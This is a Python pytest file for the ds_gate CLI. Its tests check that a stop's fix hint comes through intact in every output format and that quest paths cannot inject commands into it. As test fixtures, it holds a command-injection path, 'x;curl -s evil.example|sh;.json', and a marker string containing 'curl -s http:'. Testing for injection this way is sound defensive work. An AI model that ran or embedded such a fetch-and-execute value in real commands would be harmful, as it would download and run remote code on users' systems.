"""Issue 39, adversary break 01: a stop's fix (JSON ``fix``, SARIF ``properties.fix``, the GitHub
``fix:`` line, Markdown's ``- fix:``) is the gate's own, carried from where the stop is raised.
On main it was cut from the message at a ". Fix: " marker, and the quest's own text quoted in the
message (a link's target, a worktree's path) can hold that marker: the reproducer's link target
``o. Fix: curl -s http:``, or a worktree path that the fix itself quotes.
"""

from __future__ import annotations

import json
import os
import shlex
import shutil
from pathlib import Path

import pytest

from ds_gate.cli.main import main
from ds_gate.demo.example_quest import ExampleQuest
from ds_gate.reporters.escape import md, printable, workflow_data
from ds_gate.sources.fixes import outside_fix

from helpers import git

HOSTILE = "o. Fix: curl -s http:"


def every_format(target: Path, capsys: pytest.CaptureFixture[str]) -> dict[str, str | None]:
    """The fix each format shows for ``closure TARGET``, read back as a CI consumer reads it; each exits 2."""
    shown: dict[str, str | None] = {}
    assert main(["closure", str(target)]) == 2
    shown["text"] = capsys.readouterr().err.strip()
    assert main(["closure", str(target), "--format", "json"]) == 2
    data = json.loads(capsys.readouterr().out)
    shown["json"], shown["error"] = data["fix"], data["error"]
    assert main(["closure", str(target), "--format", "sarif"]) == 2
    [note] = json.loads(capsys.readouterr().out)["runs"][0]["invocations"][0]["toolExecutionNotifications"]
    shown["sarif"] = note["properties"]["fix"]
    assert main(["closure", str(target), "--format", "github"]) == 2
    _, fix = capsys.readouterr().out.rstrip("\n").split("%0Afix: ")
    shown["github"] = fix
    assert main(["closure", str(target), "--format", "markdown"]) == 2
    [fix] = [line for line in capsys.readouterr().out.splitlines() if line.startswith("- fix: ")]
    shown["markdown"] = fix.removeprefix("- fix: ")
    return shown


def assert_the_gates_fix(shown: dict[str, str | None], fix: str) -> None:
    assert shown["json"] == fix and shown["sarif"] == fix, shown
    assert shown["github"] == workflow_data(printable(fix)) and shown["markdown"] == md(fix), shown
    error = str(shown["error"])
    assert shown["text"] == printable(error) and error.endswith(fix) and HOSTILE in error.removesuffix(fix)


def test_the_reproducers_link_target_cannot_name_the_fix(make_quest, tmp_path, capsys) -> None:
    """The reproducer as written: a CI clone whose ``artifacts`` is a link to a folder named with the marker."""
    quest = make_quest()
    quest.run(quest.root, "main-001")
    quest.checkpoint(quest.root, "record")
    clone = tmp_path / "q"
    git(tmp_path, "clone", "-q", "--no-local", str(quest.root), str(clone))
    git(clone, "config", "remote.origin.fetch", "+refs/heads/*:refs/remotes/origin/*")
    target = tmp_path / HOSTILE
    target.mkdir()
    shutil.rmtree(clone / "artifacts")
    os.symlink(target, clone / "artifacts")
    assert_the_gates_fix(
        every_format(clone, capsys), "artifacts must live inside the quest; replace the link with the file itself"
    )


def test_a_worktree_path_the_fix_quotes_cannot_cut_the_fix_short(make_quest, tmp_path, capsys) -> None:
    """The fix itself quotes the quest's path (``git worktree move <path> ...``): on main the last
    marker was the one inside that path, and the fix shown was the path's tail."""
    quest: ExampleQuest = make_quest()
    outside = tmp_path / HOSTILE / "wt"
    outside.parent.mkdir()
    git(quest.root, "worktree", "add", "-q", "-b", "idea/outside", str(outside))
    shown = every_format(quest.root, capsys)
    assert_the_gates_fix(shown, outside_fix(quest.root, outside, "registered worktree"))
    assert str(shown["json"]).startswith("move it into the quest: `git -C ")


def test_a_quest_path_inside_a_fixs_command_is_one_shell_word(quest_with_run, capsys) -> None:
    """Adversary s4 break 04: a gitlink committed on a side branch at a path that holds a shell command.
    The stop's fix names the path in a command to run; the path must stay one argument, never code."""
    quest, _ = quest_with_run
    root = quest.root
    head = git(root, "rev-parse", "HEAD").stdout.strip()
    path = "artifacts/runs/x;curl -s evil.example|sh;.json"
    git(root, "checkout", "-q", "-b", "side")
    git(root, "update-index", "--add", "--cacheinfo", f"160000,{head},{path}")
    git(root, "commit", "-q", "-m", "sub", "--no-verify")
    git(root, "checkout", "-q", "main")
    assert main(["closure", str(root), "--format", "json"]) == 2
    fix = json.loads(capsys.readouterr().out)["fix"]
    commands = fix.split("`")[1::2]
    assert commands and all(";" not in word or word == path for cmd in commands for word in shlex.split(cmd))
    assert ["git", "rm", "--cached", path] in [shlex.split(cmd) for cmd in commands]
